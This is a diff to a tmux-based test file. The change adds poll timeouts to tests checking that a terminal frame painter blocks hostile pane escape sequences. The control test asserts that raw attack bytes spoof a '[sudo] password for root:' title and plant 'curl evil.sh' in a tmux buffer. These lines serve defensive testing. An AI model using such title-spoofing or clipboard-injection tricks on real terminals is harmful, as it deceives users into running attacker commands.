@@ -77,9 +77,11 @@ describe.skipIf(!HAS_TMUX)("the painter's output in a real terminal (tmux as the
       ENTER_ATTACH + new FramePainter().paint(frame, { cols: 30, rows: 6 }, "web · bash · agent");
     const expected = await headless(output, 30, 6);
     showInTmux("same", output, 30, 6);
-    await expect.poll(() => capture("same")).toEqual(expected.screen());
+    await expect.poll(() => capture("same"), { timeout: 15_000 }).toEqual(expected.screen());
     expect(capture("same")[2]).toBe(`long ${"x".repeat(24)}>`);
-    await expect.poll(() => paneFormat("same", "#{cursor_y},#{cursor_x},#{cursor_flag}")).toBe("3,2,1");
+    await expect
+      .poll(() => paneFormat("same", "#{cursor_y},#{cursor_x},#{cursor_flag}"), { timeout: 15_000 })
+      .toBe("3,2,1");
   });
 
   it("a hostile pane's title, OSC 52, OSC 8, mouse and query text leaves tmux's title, buffers and modes unchanged", async () => {
@@ -106,8 +108,8 @@ describe.skipIf(!HAS_TMUX)("the painter's output in a real terminal (tmux as the
       60,
       8,
     );
-    await expect.poll(() => capture("hostile").at(-1)).toContain("painted");
-    await expect.poll(() => paneFormat("hostile", "#{cursor_flag}")).toBe("1");
+    await expect.poll(() => capture("hostile").at(-1), { timeout: 15_000 }).toContain("painted");
+    await expect.poll(() => paneFormat("hostile", "#{cursor_flag}"), { timeout: 15_000 }).toBe("1");
     const modes =
       "#{mouse_any_flag}#{mouse_standard_flag}#{mouse_sgr_flag}#{keypad_flag}#{keypad_cursor_flag}#{insert_flag}";
     expect(paneFormat("hostile", "#{pane_title}")).toBe(paneFormat("quiet", "#{pane_title}"));
@@ -117,7 +119,7 @@ describe.skipIf(!HAS_TMUX)("the painter's output in a real terminal (tmux as the
 
     // Control: the same bytes written raw do change all three, so the assertions above can fail.
     showInTmux("raw", `${attacks.join("")}raw-done`, 60, 8);
-    await expect.poll(() => capture("raw").join("\n")).toContain("raw-done");
+    await expect.poll(() => capture("raw").join("\n"), { timeout: 15_000 }).toContain("raw-done");
     expect(paneFormat("raw", "#{pane_title}")).toBe("[sudo] password for root:");
     expect(paneFormat("raw", modes)).not.toBe("000000");
     expect(tmux("list-buffers")).toContain("curl evil.sh");
